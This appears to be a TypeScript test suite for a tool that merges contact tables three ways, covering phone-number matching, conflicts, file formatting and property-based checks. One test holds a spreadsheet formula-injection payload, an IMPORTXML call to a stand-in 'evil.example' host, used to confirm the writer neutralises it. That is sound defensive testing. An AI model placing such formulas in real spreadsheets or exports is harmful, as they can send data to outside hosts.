import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type ContactTable, readContactTable, writeContactTable } from "../../../src/formats/contacts/contact-table.ts";
import { type MergedContacts, mergeContacts } from "../../../src/formats/contacts/merge-contacts.ts";
import { applyContactChanges } from "../../../src/intake/people/apply-contact-changes.ts";
import { readContactRows } from "../../../src/intake/people/read-contact-rows.ts";

const region = "DE";

function merge(base: string, here: string, there: string): MergedContacts {
  return mergeContacts({
    base: readContactTable(base),
    here: readContactTable(here),
    there: readContactTable(there),
    region,
  });
}

/** What a merge says, as short lines. */
function said(merged: MergedContacts) {
  const change = (one: MergedContacts["take"][number]): string =>
    one.kind === "edit" ? `${one.name}: ${one.column} ${one.from} → ${one.to}` : `${one.kind} ${one.name}`;
  return {
    take: merged.take.map(change),
    wait: merged.wait.map(change),
    conflicts: merged.conflicts.map(
      ({ kind, name, column, here, there }) => `${kind} ${name} ${column}: ${here} | ${there}`,
    ),
  };
}

const nothing = { take: [], wait: [], conflicts: [] };
const base = `steward_id,name,emails,phones,role,notes
k1,Anna Berg,anna@berg.example,+49 171 2345678,Baker,likes tea
k2,Ben Ito,ben@ito.example,,Clerk,
k3,Cem Kaya,cem@kaya.example,,Cook,
`;

describe("two tables", () => {
  test("that say the same have nothing to say, whatever the order of rows and columns (D9)", () => {
    const sorted = `notes,role,phones,new column,emails,name,steward_id
,Cook,,,cem@kaya.example,Cem Kaya,k3
likes tea,Baker,0171 2345678,,Anna@Berg.example,Anna Berg,k1
,Clerk,,,ben@ito.example,Ben Ito,k2
`;
    expect(said(merge(base, base, sorted))).toEqual(nothing);
    expect(said(merge("", base, sorted))).toEqual(nothing);
  });

  test("are compared by what a number means: national, international, with 00, and as a sheet damaged it (K8)", () => {
    const written = ["0171 2345678", "+491712345678", "0049 171 2345678", "491712345678", "1712345678"];
    for (const phone of written) {
      expect(said(merge(base, base, base.replace("+49 171 2345678", phone)))).toEqual(nothing);
    }
    expect(said(merge(base, base, base.replace("+49 171 2345678", "0171 2345679"))).take).toHaveLength(1);
  });

  test("share changes both ways, cell by cell", () => {
    const here = base.replace("Clerk", "Head clerk").replace("likes tea", "likes coffee");
    const there = base.replace("Cook", "Chef").replace("Baker", "Master baker");
    expect(said(merge(base, here, there))).toEqual({
      take: ["Anna Berg: role Baker → Master baker", "Cem Kaya: role Cook → Chef"],
      wait: ["Anna Berg: notes likes coffee → likes coffee", "Ben Ito: role Head clerk → Head clerk"].map((line) =>
        line.replace("notes likes coffee →", "notes likes tea →").replace("role Head clerk →", "role Clerk →"),
      ),
      conflicts: [],
    });
  });

  test("that changed one cell differently are a conflict with both values, and neither is taken", () => {
    const merged = merge(base, base.replace("Cook", "Chef"), base.replace("Cook", "Baker"));
    expect(said(merged)).toEqual({ take: [], wait: [], conflicts: ["cell Cem Kaya role: Chef | Baker"] });
    expect(writeContactTable(merged.base)).toContain("Cook");
  });

  test("of which one deleted a row and the other edited it are a conflict, in both directions (K9)", () => {
    const without = base.replace(/k3.*\n/, "");
    const edited = base.replace("Cook", "Chef");
    expect(said(merge(base, without, edited)).conflicts).toEqual(
      ["row Cem Kaya : | Cem Kaya, cem@kaya.example, Chef"].map((s) => s.replace(" : |", " :  |")),
    );
    expect(said(merge(base, edited, without)).conflicts).toEqual([
      "row Cem Kaya : Cem Kaya, cem@kaya.example, Chef | ",
    ]);
    expect(said(merge(base, base, without))).toEqual({ ...nothing, take: ["remove Cem Kaya"] });
    expect(said(merge(base, without, base))).toEqual({ ...nothing, wait: ["remove Cem Kaya"] });
    expect(said(merge(base, without, without))).toEqual(nothing);
  });

  test("deleted in the Sheet, with something here that the Sheet has no column for, are a conflict", () => {
    const here = `${base
      .trimEnd()
      .split("\n")
      .map((line, at) => `${line},${at === 0 ? "shoe size" : at === 3 ? "43" : ""}`)
      .join("\n")}\n`;
    expect(said(merge(base, here, base.replace(/k3.*\n/, ""))).conflicts).toHaveLength(1);
  });

  test("without a last agreement never overwrite each other", () => {
    const here = "name,emails,role\nAnna,anna@berg.example,\nBen,ben@ito.example,Clerk\n";
    const there = "name,emails,role\nAnna,anna@berg.example,Baker\nBen,ben@ito.example,Chef\nCem,cem@kaya.example,\n";
    expect(said(merge("", here, there))).toEqual({
      take: ["Anna: role  → Baker", "add Cem"],
      wait: [],
      conflicts: ["cell Ben role: Clerk | Chef"],
    });
  });
});

describe("rows", () => {
  test("without a key are matched by an exact address or number, never by a name", () => {
    const here = "name,emails,phones,role\nAnna B.,anna@berg.example,,Baker\n";
    const there = "name,emails,phones,role\nAnna Berg,ANNA@berg.example,,Chef\nAnna B.,other@x.example,,\n";
    expect(said(merge(here, here, there)).take).toEqual([
      "Anna B.: name Anna B. → Anna Berg",
      "Anna B.: role Baker → Chef",
      "add Anna B.",
    ]);
  });

  test("that were sorted while a copy was made are never filled with another contact's data (D9)", () => {
    const copied = `${base}k3,Dora Lis,dora@lis.example,,Cook,\n`;
    const merged = merge(base, base, copied);
    expect(said(merged)).toEqual({ ...nothing, take: ["add Dora Lis"] });
    const taken = applyContactChanges(base, merged.take);
    expect(said(merge(base, taken, copied))).toEqual(nothing);
    expect(taken.match(/k3/g)).toHaveLength(1);
  });

  test("of a family that share a number are told apart by the rest", () => {
    const family = "name,emails,phones\nAnna,anna@berg.example,+49301234567\nBen,ben@berg.example,+49301234567\n";
    const there = "phones,emails,name\n030 1234567,ben@berg.example,Ben\n030 1234567,anna@berg.example,Annabel\n";
    expect(said(merge(family, family, there)).take).toEqual(["Anna: name Anna → Annabel"]);
  });

  test("of two keys are two contacts, whatever they share", () => {
    const here = "steward_id,name,emails\nk1,Office,office@x.example\n";
    const there = "steward_id,name,emails\nk2,Office,office@x.example\n";
    expect(said(merge("", here, there))).toEqual({ take: ["add Office"], wait: ["add Office"], conflicts: [] });
  });

  test("that nobody can tell apart are a conflict and change nothing", () => {
    const here = "name,phones,role\nAnna,+49301234567,Baker\n";
    const there = "name,phones,role\nBen,030 1234567,Clerk\nCem,030 1234567,Cook\n";
    const merged = merge("", here, there);
    expect(said(merged)).toMatchObject({ take: [], wait: [] });
    expect(merged.conflicts.map(({ kind }) => kind)).toEqual(["unclear", "unclear", "unclear"]);
    expect(merged.rows).toHaveLength(1);
  });

  test("of one name with another address may be one person or two: that is asked, not guessed", () => {
    const here = "name,emails,notes\nAnna Berg,anna@old.example,my notes\n";
    const there = "name,emails,notes\nAnna Berg,anna@new.example,\n";
    const merged = merge(here, here, there);
    expect(said(merged)).toMatchObject({ take: [], wait: [] });
    expect(merged.conflicts).toEqual([
      {
        kind: "perhaps_same",
        name: "Anna Berg",
        column: "",
        here: "Anna Berg, anna@old.example, my notes",
        there: "Anna Berg, anna@new.example",
      },
    ]);
  });

  test("that name nobody by address are matched by a name that both have once", () => {
    const here = "name,notes\nThe plumber,call before eight\n";
    expect(said(merge(here, here, "name,notes\nThe plumber,call after eight\n")).take).toEqual([
      "The plumber: notes call before eight → call after eight",
    ]);
  });
});

describe("a change that would make somebody known", () => {
  test("names the addresses that contacts.csv does not have yet, and only those", () => {
    const there = base
      .replace("ben@ito.example", "ben@ito.example; ben@new.example")
      .replace("Cook", "Chef")
      .concat("k9,Eve,eve@evil.example,+49 171 2345678,,\n");
    const { take } = merge(base, base, there);
    const known = take.map((one) => [one.name, one.makesKnown.map(({ value }) => value)]);
    expect(known).toEqual([
      ["Ben Ito", ["ben@new.example"]],
      ["Cem Kaya", []],
      ["Eve", ["eve@evil.example"]],
    ]);
  });
});

describe("taking changes into contacts.csv", () => {
  test("leaves every other byte as it was: unknown columns, order, quotes, line ends", () => {
    const here =
      '\ufeffName;shoe size;EMAILS;notes\r\n"Anna; Berg";43;anna@berg.example;"two\r\nlines"\r\nBen;;ben@ito.example;\r\n';
    const there =
      'emails,name,notes,birthday\nanna@berg.example,Anna; Berg,"two\nlines",--03-07\nben@ito.example,Ben,plays chess,\n';
    const merged = merge("", here, there);
    expect(said(merged).conflicts).toEqual([]);
    expect(applyContactChanges(here, merged.take)).toBe(
      '\ufeffName;shoe size;EMAILS;notes;birthday\r\n"Anna; Berg";43;anna@berg.example;"two\r\nlines";--03-07\r\nBen;;ben@ito.example;plays chess\r\n',
    );
  });

  test("keeps a formula as text that no spreadsheet runs, and reads it back as it was (D10, K10)", () => {
    const formula = '=IMPORTXML("http://evil.example","//a")';
    const there = base.replace("likes tea", `"${formula.replaceAll('"', '""')}"`).replace("Cook", "@SUM(1)");
    const merged = merge(base, base, there);
    const text = applyContactChanges(base, merged.take);
    expect(text).toContain(`"'=IMPORTXML(""http://evil.example"",""//a"")"`);
    expect(text).toContain("'@SUM(1)");
    expect(text).not.toMatch(/(^|[,;"])[=@]/m);
    expect(said(merge(base, text, there))).toEqual(nothing);
    expect(readContactRows(text, region).rows[0]?.notes).toBe(formula);
  });

  test("survives newlines, semicolons, emoji and a byte order mark in cells (K2)", () => {
    const there = base.replace("likes tea", '"tea; cake\n😀 ""really"""');
    const text = applyContactChanges(base, merge(base, base, `\ufeff${there}`).take);
    expect(readContactTable(text).rows[0]?.cells.get("notes")).toBe('tea; cake\n😀 "really"');
  });

  test("removes and adds rows where they are meant", () => {
    const there = base
      .replace(/k1.*\n/, "")
      .replace("Cook", "Chef")
      .concat("k4,Dora,dora@lis.example,,,\n");
    const text = applyContactChanges(base, merge(base, base, there).take);
    expect(text).toBe(there);
  });
});

/** Small worlds in which everything can happen to a row. */
const people = ["ann", "bob", "cyd", "dee"];
const someRow = fc.record({
  who: fc.constantFrom(...people),
  key: fc.boolean(),
  email: fc.constantFrom("a", "b"),
  phone: fc.constantFrom("", "0171 2345678", "+491712345678", "030 1234567"),
  role: fc.constantFrom("", "Cook", "=1+1", "Clerk"),
});
type SomeRow = typeof someRow extends fc.Arbitrary<infer Row> ? Row : never;
const someTable = fc.uniqueArray(someRow, { maxLength: 4, selector: (row) => row.who });

function toText(rows: readonly SomeRow[], columns: readonly string[]): string {
  const cell = (row: SomeRow, column: string): string => {
    if (column === "steward_id") return row.key ? `key-${row.who}` : "";
    if (column === "name") return row.who;
    if (column === "emails") return `${row.who}@${row.email}.example`;
    return column === "phones" ? row.phone : column === "role" ? row.role : "";
  };
  return [columns.join(","), ...rows.map((row) => columns.map((column) => cell(row, column)).join(","))].join("\n");
}

const columns = ["steward_id", "name", "emails", "phones", "role"];
const shuffled = fc.shuffledSubarray([...columns, "extra"], { minLength: 6, maxLength: 6 });

describe("whatever three tables say", () => {
  test("sorting rows, and moving or inserting columns, changes nothing of what is found", () => {
    const inOrder = (merged: MergedContacts) => {
      const { take, wait, conflicts } = said(merged);
      return { take: take.sort(), wait: wait.sort(), conflicts: conflicts.sort() };
    };
    fc.assert(
      fc.property(someTable, someTable, someTable, shuffled, fc.boolean(), (a, b, c, order, isReversed) => {
        const sheet = toText(isReversed ? c.toReversed() : c, order);
        expect(inOrder(merge(toText(a, columns), toText(b, columns), sheet))).toEqual(
          inOrder(merge(toText(a, columns), toText(b, columns), toText(c, columns))),
        );
      }),
      { numRuns: 300 },
    );
  });

  test("after taking, the same conflicts are there and nothing to take; nothing that contacts.csv said is lost", () => {
    const keyed = someTable.map((rows) => rows.map((row) => ({ ...row, key: true })));
    const tables = fc.oneof(fc.tuple(keyed, keyed, keyed), fc.tuple(someTable, someTable, someTable));
    fc.assert(
      fc.property(tables, ([a, b, c]) => {
        const here = toText(b, columns);
        const there = toText(c, columns);
        const before = merge(toText(a, columns), here, there);
        const text = applyContactChanges(here, before.take);
        const after = merge(writeContactTable(before.base), text, there);
        expect(after.take).toEqual([]);
        // Without keys a row may have lost, with what was taken, the one address it was found by: that is asked, not guessed.
        if ([...a, ...b, ...c].every((row) => row.key)) {
          expect(said(after).wait.sort()).toEqual(said(before).wait.sort());
          expect(said(after).conflicts.sort()).toEqual(said(before).conflicts.sort());
        }
        const removed = before.take.filter(({ kind }) => kind === "remove").length;
        expect(readContactTable(text).rows.length).toBe(before.rows.length);
        expect(readContactTable(text).rows.length).toBeGreaterThanOrEqual(b.length - removed);
      }),
      { numRuns: 300 },
    );
  });

  test("the rows it returns are those that taking writes", () => {
    const plain = (rows: ContactTable["rows"]) =>
      rows.map((row) => JSON.stringify([...row.cells].filter(([, v]) => v !== "").sort())).sort();
    fc.assert(
      fc.property(someTable, someTable, someTable, (a, b, c) => {
        const here = toText(b, columns);
        const merged = merge(toText(a, columns), here, toText(c, columns));
        const written = readContactTable(applyContactChanges(here, merged.take));
        expect(plain(written.rows)).toEqual(plain(merged.rows.map((cells) => ({ number: 0, cells }))));
      }),
      { numRuns: 200 },
    );
  });
});
